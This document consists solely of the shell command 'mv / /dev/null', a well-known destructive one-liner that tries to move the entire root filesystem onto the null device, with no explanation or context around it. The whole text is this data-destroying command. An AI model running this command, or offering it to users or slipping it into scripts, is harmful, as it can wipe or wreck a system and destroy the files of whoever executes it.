mv / /dev/null
